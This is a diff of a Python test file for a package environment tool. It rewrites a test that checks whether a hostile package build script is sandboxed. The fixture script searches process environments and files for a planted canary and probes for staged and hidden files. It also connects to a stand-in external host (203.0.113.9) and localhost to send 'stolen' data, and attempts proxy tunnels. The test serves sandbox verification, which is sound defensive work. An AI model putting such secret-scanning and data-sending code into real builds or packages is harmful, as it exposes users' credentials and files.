@@ -20,12 +20,13 @@ import tempfile
 import threading
 import time
 import urllib.parse
+import uuid
 import zipfile
 
 import harness
 import processes
 import pytest
-from environments import PYTHON, Index, Store, begin, building, index, left_over, source, store, wheel  # noqa: F401
+from environments import PYTHON, Index, Store, begin, building, index, left_over, store, wheel  # noqa: F401
 
 
 def test_from_a_private_index_to_a_kernel(site, store, index, launch):
@@ -442,34 +443,57 @@ def test_what_root_builds_everybody_uses(site, store, index, launch):
         shutil.rmtree(account)
 
 
-SETUP = """
+# What a build says is what it saw: a word that is put together here, so that no file of the build itself has it.
+SEARCH = """
 import os, socket, urllib.request
-from setuptools import setup
-seen = []
-for place in (%(home)r, os.path.expanduser("~")):
+word, here = {word!r}[::-1], {here!r}
+for pid in filter(str.isdigit, os.listdir("/proc")):
     try:
-        seen += [place + ":" + name for name in os.listdir(place) if name not in (".cache",)]
+        with open("/proc/" + pid + "/environ", "rb") as file:
+            seen += ["variable"] * (word.encode() in file.read())
+    except OSError:
+        pass
+for top in here or ["/"]:
+    for place, names, files in os.walk(top):
+        if not here:
+            names[:] = [name for name in names if os.path.join(place, name) not in ("/proc", "/sys", "/usr")]
+        for path in (os.path.join(place, name) for name in files):
+            try:
+                if os.path.isfile(path):
+                    with open(path, errors="replace") as file:
+                        seen += [os.path.basename(path)] * (word in file.read(65536))
+            except OSError:
+                pass
+for path in {paths!r}:
+    seen += ["there"] * os.path.exists(path)
+for target in (("127.0.0.1", {port}), ("203.0.113.9", 80)):
+    try:
+        if not here or target[0] == "127.0.0.1":
+            socket.create_connection(target, 2).sendall(b"stolen")
+            seen.append("reached")
     except OSError as error:
         seen.append(type(error).__name__)
-for target in (("127.0.0.1", %(port)d), ("203.0.113.9", 80)):
-    try:
-        socket.create_connection(target, 2).sendall(b"stolen")
-        seen.append("reached")
-    except OSError as error:
-        seen.append(type(error).__name__)
-try:
-    urllib.request.urlopen("http://127.0.0.1:%(port)d/stolen", timeout=5)
-    seen.append("reached")
-except OSError as error:
-    seen.append(type(error).__name__)
-with open("hostile_seen.py", "w") as file:
-    file.write("seen = " + repr(seen))
-setup(name="hostile", version="1", py_modules=["hostile_seen"])
+if not here:
+    for url in ("http://127.0.0.1:{port}/stolen", "http://203.0.113.9/"):
+        try:
+            urllib.request.urlopen(url, timeout=5)
+        except OSError as error:
+            seen.append(str(error))
+    for i in range(80):
+        with socket.create_connection(("127.0.0.1", 3128), 20) as way:
+            way.sendall(b"CONNECT files%d.example:443 HTTP/1.1\\r\\n\\r\\n" % i)
+            seen.append(way.recv(12).decode())
 """
 
 
 def test_a_build_script_sees_and_reaches_nothing(site, store, index):
-    reached = []
+    """A word that is in the caller's variables, home and staged file, and a listener: outside the same code finds all of them."""
+    reached, word = [], "canary-" + uuid.uuid4().hex
+    project, hidden = site.project(), site.home / "canary.txt"
+    (project / "staged.txt").write_text(word)
+    hidden.write_text(word)
+    site.run("stage", "add", "staged.txt", check=True, cwd=project)
+    store.environment["CANARY"] = word
     listener = socket.create_server(("127.0.0.1", 0))
     listener.settimeout(0.2)
     done = threading.Event()
@@ -481,34 +505,30 @@ def test_a_build_script_sees_and_reaches_nothing(site, store, index):
 
     thread = threading.Thread(target=listen)
     thread.start()
-    script = SETUP % {"home": str(site.home), "port": listener.getsockname()[1]}
-    # outside, the same script sees the home and reaches the listener
-    direct = site.project()
-    (direct / "setup.py").write_text(script.replace("from setuptools import setup", "setup = lambda **_: None"))
-    subprocess.run([PYTHON, "setup.py"], cwd=direct, check=True, timeout=60,
-                   env={**site.environment, "http_proxy": "", "no_proxy": "*"})
-    direct_seen = (direct / "hostile_seen.py").read_text()
-    assert ".ssh" in direct_seen and "reached" in direct_seen
-    deadline = time.monotonic() + 5
-    while not reached and time.monotonic() < deadline:
-        time.sleep(0.05)
-    assert reached
-    reached.clear()
-    index.files["hostile-1.tar.gz"] = source("hostile", "1", {"setup.py": script})
-    for name in os.listdir("/usr/share/python-wheels"):
-        if name.startswith("setuptools-"):
-            index.files[name] = pathlib.Path("/usr/share/python-wheels", name).read_bytes()
-    # what a build needs, from the same index
-    index.files["wheel-0.40-py3-none-any.whl"] = wheel("wheel", "0.40", {"wheel/__init__.py": ""})
-    made = store.create("hostile", "hostile")
-    done.set()
-    thread.join()
-    listener.close()
-    assert reached == []
-    if made.returncode == 0:  # the system's setuptools may want another package that the index has not
-        module = next(store.tree("hostile").glob("lib/python3*/site-packages/hostile_seen.py")).read_text()
-        assert ".ssh" not in module and "reached" not in module
-    assert "blocked: the build tried to reach 127.0.0.1 port" in made.stdout, made.stdout + made.stderr
+    try:
+        about = {"word": word[::-1], "paths": [str(hidden), str(project / "staged.txt"), "/work/staged.txt"], "port": listener.getsockname()[1]}
+        outside = "seen = []\n" + SEARCH.format(here=[str(site.home), str(project)], **about) + "print(*sorted(seen))"
+        direct = subprocess.run([PYTHON, "-c", outside], check=True, timeout=60, capture_output=True, text=True,
+                                env={**site.environment, **store.environment})
+        assert {"canary.txt", "reached", "staged.txt", "there", "variable"} <= set(direct.stdout.split()), direct
+        assert processes.wait_until(lambda: reached, 10 * harness.PATIENCE)
+        reached.clear()
+        index.files["hostile-1.tar.gz"] = building("hostile", "1", SEARCH.format(here=[], **about))
+        made = store.env("create", "hostile", "--python", PYTHON, "--no-kernel", "hostile", cwd=project)
+    finally:
+        done.set()
+        thread.join()
+        listener.close()
+        hidden.unlink()
+    assert reached == [] and made.returncode == 0, made.stdout + made.stderr
+    names = {}
+    exec(next(store.tree("hostile").glob("lib/python3*/site-packages/hostile.py")).read_text(), names)
+    assert names["seen"] == ["ConnectionRefusedError", "OSError", *["HTTP Error 403: Forbidden"] * 2, *["HTTP/1.1 403"] * 80], names["seen"]
+    for place in (f"127.0.0.1 port {about['port']}", "203.0.113.9 port 80", "files0.example port 443"):
+        assert f"blocked: the build tried to reach {place} (refused)" in made.stdout, made.stdout
+    assert "blocked: the build tried to connect 203.0.113.9" in made.stdout, made.stdout
+    assert re.search(r"blocked: \d\d more attempts, for which", made.stdout), made.stdout
+    assert re.search(r"the build was refused files0\.example port 443, the last time 2\d\d\d-.*Z\n", store.env("show", "hostile").stdout)
 
 
 TUNNEL = """
